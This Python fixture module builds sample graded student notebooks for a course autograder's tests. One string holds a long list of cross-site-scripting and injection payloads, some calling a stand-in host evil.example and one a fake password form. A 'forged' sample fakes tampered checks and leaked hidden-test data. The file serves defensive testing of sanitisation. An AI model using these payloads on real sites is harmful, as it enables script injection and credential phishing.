"""A dozen notebooks of problem set 1 as students hand them in, with what grading found: right, wrong, half done, hostile, huge, odd."""

import base64
import copy
import dataclasses
import io
from collections.abc import Callable
from pathlib import Path

import nbformat
from nbformat import NotebookNode
from nbformat.v4 import new_code_cell, new_markdown_cell, new_output, new_raw_cell
from PIL import Image

from course_lib.grading.authoring.submissions import solved
from course_lib.grading.notebooks.cells import grade_id, is_test, meta
from course_lib.grading.records import Outcome, Question, Record, Status

ROOT = Path(__file__).parents[1]
NAME = "ps01_maximum_likelihood"
SECRET = "SECRET-4711"  # stands in every place where a hidden test's data could be

# Each tries to run a script, to load something from another machine, or to change the page around it.
HOSTILE = """<script>window.ran = 1; document.title = "taken"</script>
<img src="x" onerror="window.ran = 1"> <img src="http://evil.example/pixel.png"> <svg onload="window.ran = 1"><script>window.ran = 1</script></svg>
<svg><a xlink:href="javascript:window.ran=1"><text y="20">svg</text></a></svg>
[link](javascript:window.ran=1) [data](data:text/html;base64,PHNjcmlwdD53aW5kb3cucmFuPTE8L3NjcmlwdD4=) <a href="JaVaScRiPt:window.ran=1">raw</a>
<a href="data:text/html,<script>window.ran=1</script>">data</a> <a href="//evil.example/">relative</a> [file](file:///etc/passwd)
[fine](https://example.org/page) ![remote](http://evil.example/picture.png) ![ok?](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9IndpbmRvdy5yYW49MSIvPg==)
<iframe src="http://evil.example/"></iframe><iframe srcdoc="<script>parent.ran = 1</script>"></iframe><object data="http://evil.example/x"></object>
<embed src="http://evil.example/y"><form action="http://evil.example/"><input name="password" autofocus onfocus="window.ran=1"><button>log in</button></form>
<style>body { display: none } @import "http://evil.example/s.css"; p { background: url(http://evil.example/css.png) }</style>
<p style="background: url(http://evil.example/inline.png); position: fixed; inset: 0">over everything</p><base href="http://evil.example/">
<meta http-equiv="refresh" content="0; url=http://evil.example/"><link rel="stylesheet" href="http://evil.example/l.css">
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.ran=1&gt;"></table></mtext></math>
<noscript><p title="</noscript><img src=x onerror=window.ran=1>"></noscript><details open ontoggle="window.ran=1"><summary>open</summary>
<video src="http://evil.example/v.mp4" autoplay onplay="window.ran=1"></video><audio src="http://evil.example/a.mp3"></audio>
<p id="question-1" class="verdict won">30 of 30</p></div></main></body>

$\\href{javascript:window.ran=1}{x}$ $\\text{<img src=x onerror=window.ran=1>}$ $\\style{background:url(http://evil.example/m.png)}{y}$ $\\class{verdict}{z}$
"""


def picture(kind: str = "PNG") -> str:
    """A small picture, base64."""
    file = io.BytesIO()
    Image.linear_gradient("L").resize((120, 60)).convert("RGB").save(file, kind)
    return base64.b64encode(file.getvalue()).decode()


def notebook(folder: str) -> NotebookNode:
    """The problem set as it lies in ``assignments`` or ``solutions``."""
    return nbformat.read(ROOT / folder / NAME / f"{NAME}.ipynb", as_version=4)


def questions(*, lost: dict[str, Question] | None = None) -> tuple[Question, ...]:
    """Full marks, but for what is lost; the written answer waits for a person."""
    found = []
    for cell in notebook("solutions").cells:
        if meta(cell).get("grade"):
            name, points = grade_id(cell), float(meta(cell)["points"])
            right = Question(name, points, points, Outcome.RIGHT) if is_test(cell) else Question(name, points, None, Outcome.BY_HAND)
            found.append(dataclasses.replace(lost[name], max_score=points) if lost and name in lost else right)
    return tuple(found)


def wrong(
    name: str, message: str = "", words: str = "", *, outcome: Outcome = Outcome.WRONG, hidden: bool = False, score: float = 0.0
) -> Question:
    """A question that lost points."""
    return Question(name, 0.0, score, outcome, message, words, hidden)


@dataclasses.dataclass(frozen=True)
class Sample:
    """A student's notebook after grading, and what was found."""

    record: Record
    notebook: NotebookNode | None


def sample(
    student: str,
    change: Callable[[NotebookNode], None] = lambda notebook: None,
    *,
    status: Status = Status.GRADED,
    lost: dict[str, Question] | None = None,
    readable: bool = True,
    **facts,
) -> Sample:
    """A solved notebook with something done to it."""
    filled = solved(notebook("assignments"), notebook("solutions"))
    change(filled)
    return Sample(Record(student, NAME, NAME, status, questions(lost=lost), **facts), filled if readable else None)


def cell(notebook: NotebookNode, name: str) -> NotebookNode:
    """A cell by its grade id."""
    return next(each for each in notebook.cells if grade_id(each) == name)


def _own_cells(*cells: NotebookNode, place: int = 2) -> Callable[[NotebookNode], None]:
    def change(notebook: NotebookNode) -> None:
        notebook.cells[place:place] = [copy.deepcopy(each) for each in cells]

    return change


def _forged(notebook: NotebookNode) -> None:
    """Checks edited and given outputs, hidden lines among them; a marked cell made up; the same check twice."""
    check = cell(notebook, "test_fit_coin")
    check.source = f"### BEGIN HIDDEN TESTS\nassert {SECRET!r}\n### END HIDDEN TESTS"
    check.outputs = [new_output("error", ename="AssertionError", evalue=SECRET, traceback=[f"assert {SECRET}"])]
    made_up = copy.deepcopy(check)
    made_up.metadata.nbgrader.grade_id = "test_free_marks"
    notebook.cells += [made_up, copy.deepcopy(check)]
    notebook.cells.append(new_code_cell("print(kept)", outputs=[new_output("stream", name="stdout", text=SECRET)]))
    error = new_output("error", ename=SECRET, evalue=SECRET, traceback=[SECRET])
    notebook.cells.append(new_code_cell("raise kept", outputs=[error]))
    notebook.cells.append(new_code_cell("1 / 0", outputs=[{**error, "ename": "ZeroDivisionError"}]))


TRACEBACK = (
    "\x1b[31m---------------------------------------------------------------------------\x1b[39m\n\x1b[31mValueError\x1b[39m  Traceback\n"
    "Cell \x1b[92mIn[3]\x1b[39m\x1b[92m, line 2\x1b[39m\n\x1b[1;32m      1\x1b[0m x = \x1b[38;5;28;01m<b>1</b>\x1b[39;00m\n\x1b[31mValueError\x1b[39m: "
    + HOSTILE[:80]
)
HOSTILE_OUTPUTS = [
    new_output("stream", name="stdout", text=HOSTILE),
    new_output("error", ename="<script>window.ran=1</script>", evalue=HOSTILE, traceback=[TRACEBACK]),
    new_output("display_data", {"text/html": HOSTILE}),
    new_output("display_data", {"text/html": HOSTILE, "text/plain": "a table"}),
    new_output("display_data", {"text/markdown": HOSTILE}),
    new_output("display_data", {"text/latex": "$\\text{<script>window.ran=1</script>}$"}),
    new_output("display_data", {"image/svg+xml": '<svg xmlns="http://www.w3.org/2000/svg" onload="window.ran=1"/>'}),
    new_output("display_data", {"image/png": '"><script>window.ran=1</script>', "text/plain": "<Figure>"}),
    new_output("display_data", {"application/javascript": "window.ran = 1"}),
]
RICH = new_code_cell(
    "plt.plot([1, 2, 3])",
    outputs=[
        new_output("display_data", {"image/png": picture(), "text/plain": "<Figure size 640x480 with 1 Axes>"}),
        new_output("display_data", {"image/jpeg": picture("JPEG")}),
        new_output("display_data", {"application/vnd.jupyter.widget-view+json": {"model_id": "a1"}, "text/plain": "IntSlider(value=3)"}),
        new_output("execute_result", {"text/html": "<table><tr><td>1</td></tr></table>", "text/plain": "   a\n0  1"}, execution_count=3),
        new_output("stream", name="stderr", text="\r 10%|█\r 50%|█████\r100%|██████████| 3/3\nUserWarning: mind the gap\n"),
        new_output("error", ename="ValueError", evalue="x", traceback=[TRACEBACK]),
    ],
)
WORDS = new_markdown_cell(
    "# My notes\n###### far too deep\n## 日本語の見出し\n\n尤度は $\\prod_n \\theta^{x_n}(1-\\theta)^{1-x_n}$ である。\n\n"
    "$$\\begin{aligned} \\hat\\theta &= \\frac{1}{N} \\sum_n x_n \\\\ &\\le 1 \\end{aligned}$$\n\n| a | b |\n|---|---:|\n| 1 | $x^2$ |\n\n"
    "```python\nprint('code')\n```\n\n![my drawing](attachment:drawing.png) costs \\$5 and $6, or `$7`.\n\n$\\unknowncommand{x}$",
    attachments={"drawing.png": {"image/png": picture()}},
)


def samples() -> dict[str, Sample]:
    """All of them, by what they are."""
    heads = "Mistake: The estimate is 4, but 0.571429 is right: this counts the heads: divide by the number of tosses."
    fine = new_output("stream", name="stdout", text="fine")
    long = new_code_cell("print('x' * 10**6)", outputs=[new_output("stream", name="stdout", text="flood 0123456789\n" * 60_000)])
    return {
        "right": sample("0123456", submitted="2026-05-01T12:00:00+09:00"),
        "wrong": sample(
            "0123457",
            lost={
                "test_fit_coin": wrong("test_fit_coin", heads),
                "test_log_density": wrong(
                    "test_log_density", SECRET, "the determinant of 300 dimensions underflows: add logarithms", hidden=True
                ),
                "test_e_step": wrong("test_e_step", SECRET, hidden=True),
                "test_m_step": wrong("test_m_step", "half", outcome=Outcome.PART, score=1.5),
                "test_em": wrong("test_em", "IndexError: index 3 is out of bounds for dimension 0 with size 3"),
            },
        ),
        "half done": sample(
            "0123458",
            lambda notebook: setattr(cell(notebook, "m_step"), "source", "def m_step(x, r):\n    ..."),
            status=Status.PARTIAL,
            lost={
                "test_m_step": wrong("test_m_step", outcome=Outcome.NOT_ATTEMPTED),
                "test_em": wrong("test_em", outcome=Outcome.TIMED_OUT, message="no answer within 60 s"),
                "test_fit_coin": wrong("test_fit_coin", outcome=Outcome.CRASHED, message="the student's process ended"),
            },
            repairs=("The check test_fit_coin had been edited and was put back.", "Outputs of an earlier run were dropped."),
        ),
        "hostile": sample(
            "<script>window.ran=1</script>",
            _own_cells(
                new_markdown_cell(HOSTILE),
                new_code_cell(HOSTILE, outputs=HOSTILE_OUTPUTS),
                new_raw_cell(HOSTILE),
                new_markdown_cell("## After it"),
            ),
            status=Status.NEEDS_REVIEW,
            lost={"test_em": wrong("test_em", HOSTILE), "test_m_step": wrong("test_m_step", words=HOSTILE, hidden=True)},
            repairs=(HOSTILE,),
            remarks=(SECRET,),
            submitted="<b>now</b>",
        ),
        "forged": sample(
            "0123459", _forged, status=Status.NEEDS_REVIEW, lost={"test_fit_coin": wrong("test_fit_coin", SECRET, hidden=True)}
        ),
        "rich": sample("0123460", _own_cells(RICH, WORDS)),
        "日本語": sample(
            "山田 太郎",
            _own_cells(new_markdown_cell("# 感想\n\nとても**面白かった**です。"), new_code_cell("print('文字')", outputs=[fine])),
        ),
        "huge": sample(
            "0123461",
            _own_cells(long, new_markdown_cell("word " * 400_000), new_code_cell("x = 1\n" * 100_000), new_markdown_cell("<div>" * 50_000)),
        ),
        "odd text": sample(
            "a\ud800b\x00", _own_cells(new_code_cell("'\ud800\x00\x1b[31m'", outputs=[]), new_markdown_cell("\udfff $\ud800$ [x](\x00)"))
        ),
        "not attempted": Sample(
            Record(
                "0123462",
                NAME,
                NAME,
                Status.NOT_ATTEMPTED,
                tuple(dataclasses.replace(q, score=0.0, outcome=Outcome.NOT_ATTEMPTED) for q in questions()),
            ),
            notebook("assignments"),
        ),
        "unreadable": sample("0123463", status=Status.UNREADABLE, readable=False, lost={}),
        "our fault": Sample(
            Record(
                "0123464",
                NAME,
                NAME,
                Status.INFRASTRUCTURE_ERROR,
                tuple(dataclasses.replace(q, score=None, outcome=Outcome.NOT_JUDGED) for q in questions()),
            ),
            None,
        ),
    }
